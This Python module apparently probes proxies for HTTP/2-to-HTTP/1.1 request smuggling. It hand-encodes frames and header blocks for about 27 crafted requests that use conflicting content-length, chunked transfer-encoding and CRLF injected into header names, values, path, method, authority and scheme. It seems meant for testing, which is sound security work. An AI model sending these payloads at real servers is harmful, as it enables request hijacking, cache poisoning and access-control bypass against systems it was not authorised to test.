"""HTTP/2 requests that become others when a proxy writes them down as HTTP/1.1.

Frames and headers are written by hand (RFC 9113, RFC 7541): a library would refuse them.
"""

import socket
import struct
from collections.abc import Iterator
from dataclasses import dataclass

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, GOAWAY = 0, 1, 3, 4, 7
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
INNER = b"GET /mark/{inner} HTTP/1.1\r\nHost: a\r\n\r\n"

Fields = tuple[tuple[bytes, bytes], ...]


@dataclass(frozen=True)
class Shape:
    """One request: fields as they stand in the block, and the pieces of its body."""

    name: str
    fields: Fields
    body: bytes = b""

    def frames(self, outer: str, inner: str) -> bytes:
        """All of a client's connection: preface, settings, the request on stream 1."""

        def marked(text: bytes) -> bytes:
            return text.replace(b"{outer}", outer.encode()).replace(b"{inner}", inner.encode())

        block = b"".join(_literal(marked(name), marked(value)) for name, value in self.fields)
        body = marked(self.body)
        flags = END_HEADERS | (0 if body else END_STREAM)
        sent = PREFACE + frame(SETTINGS, 0, 0, b"") + frame(HEADERS, flags, 1, block)
        return sent + (frame(DATA, END_STREAM, 1, body) if body else b"")


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """RFC 9113, section 4.1."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _literal(name: bytes, value: bytes) -> bytes:
    """A literal field without indexing, its name new (RFC 7541, 6.2.2)."""
    return b"\0" + _text(name) + _text(value)


def _text(text: bytes) -> bytes:
    if len(text) < 127:
        return bytes([len(text)]) + text
    rest, digits = len(text) - 127, b""
    while rest >= 128:
        digits += bytes([rest % 128 + 128])
        rest //= 128
    return b"\x7f" + digits + bytes([rest]) + text


def _request(
    method: bytes = b"POST", path: bytes = b"/mark/{outer}", *more: tuple[bytes, bytes]
) -> Fields:
    pseudo = ((b":method", method), (b":scheme", b"http"), (b":authority", b"a"), (b":path", path))
    return (*pseudo, *more)


SHAPES = (
    Shape("plain", _request(b"GET")),
    Shape("plain with a body", _request(), b"hello"),
    Shape(
        "length too short", _request(b"POST", b"/mark/{outer}", (b"content-length", b"0")), INNER
    ),
    Shape(
        "length too long", _request(b"POST", b"/mark/{outer}", (b"content-length", b"99")), INNER
    ),
    Shape(
        "two lengths",
        _request(b"POST", b"/mark/{outer}", (b"content-length", b"0"), (b"content-length", b"39")),
        INNER,
    ),
    Shape(
        "length of a word", _request(b"POST", b"/mark/{outer}", (b"content-length", b"x")), INNER
    ),
    Shape(
        "length with plus", _request(b"POST", b"/mark/{outer}", (b"content-length", b"+0")), INNER
    ),
    Shape(
        "Transfer-Encoding",
        _request(b"POST", b"/mark/{outer}", (b"transfer-encoding", b"chunked")),
        b"0\r\n\r\n" + INNER,
    ),
    Shape(
        "Transfer-Encoding in capitals",
        _request(b"POST", b"/mark/{outer}", (b"Transfer-Encoding", b"chunked")),
        b"0\r\n\r\n" + INNER,
    ),
    Shape(
        "Transfer-Encoding in a value",
        _request(b"POST", b"/mark/{outer}", (b"x-a", b"b\r\nTransfer-Encoding: chunked")),
        b"0\r\n\r\n" + INNER,
    ),
    Shape(
        "Transfer-Encoding in a value behind LF",
        _request(b"POST", b"/mark/{outer}", (b"x-a", b"b\nTransfer-Encoding: chunked")),
        b"0\r\n\r\n" + INNER,
    ),
    Shape(
        "Transfer-Encoding in a name",
        _request(b"POST", b"/mark/{outer}", (b"x-a: b\r\ntransfer-encoding", b"chunked")),
        b"0\r\n\r\n" + INNER,
    ),
    Shape(
        "a request in a value", _request(b"GET", b"/mark/{outer}", (b"x-a", b"b\r\n\r\n" + INNER))
    ),
    Shape("a request in a name", _request(b"GET", b"/mark/{outer}", (b"x\r\n\r\n" + INNER, b"b"))),
    Shape(
        "a request in the path",
        _request(b"GET", b"/mark/{outer} HTTP/1.1\r\nHost: a\r\n\r\n" + INNER),
    ),
    Shape("a request in the method", _request(INNER + b"GET")),
    Shape(
        "a request in the authority",
        (
            (b":method", b"GET"),
            (b":scheme", b"http"),
            (b":authority", b"a\r\n\r\n" + INNER),
            (b":path", b"/mark/{outer}"),
        ),
    ),
    Shape(
        "a request in the scheme",
        (
            (b":method", b"GET"),
            (b":scheme", b"http://a/mark/{inner} HTTP/1.1\r\nX: "),
            (b":authority", b"a"),
            (b":path", b"/mark/{outer}"),
        ),
    ),
    Shape("blank in the path", _request(b"GET", b"/mark/{outer} /mark/{inner}")),
    Shape("colon in a name", _request(b"GET", b"/mark/{outer}", (b"x:y", b"z"))),
    Shape("NUL in a value", _request(b"GET", b"/mark/{outer}", (b"x-a", b"b\0c"))),
    Shape("Connection", _request(b"GET", b"/mark/{outer}", (b"connection", b"upgrade"))),
    Shape("Host of another", _request(b"GET", b"/mark/{outer}", (b"host", b"b"))),
    Shape(
        "Upgrade",
        _request(b"GET", b"/mark/{outer}", (b"upgrade", b"h2c"), (b"http2-settings", b"AAMAAABk")),
    ),
    Shape("two paths", _request(b"GET", b"/mark/{outer}", (b":path", b"/mark/{inner}"))),
    Shape("HEAD with a body", _request(b"HEAD"), INNER),
    Shape("GET with a body", _request(b"GET"), INNER),
)


def answers(connection: socket.socket, sent: bytes) -> bytes:
    """The data of all responses, or as much as comes before the peer ends or falls silent."""
    connection.sendall(sent)
    data = b""
    for kind, flags, payload in _frames(connection):
        if kind == DATA:
            data += payload
        if kind == SETTINGS and not flags & ACK:
            connection.sendall(frame(SETTINGS, ACK, 0, b""))
        if kind in (RST_STREAM, GOAWAY) or (kind in (DATA, HEADERS) and flags & END_STREAM):
            break
    return data


def _frames(connection: socket.socket) -> Iterator[tuple[int, int, bytes]]:
    received = b""
    while True:
        while len(received) < 9 or len(received) < 9 + int.from_bytes(received[:3], "big"):
            try:
                piece = connection.recv(1 << 16)
            except (TimeoutError, ConnectionError):
                return
            if not piece:
                return
            received += piece
        size = int.from_bytes(received[:3], "big")
        yield received[3], received[4], received[9 : 9 + size]
        received = received[9 + size :]
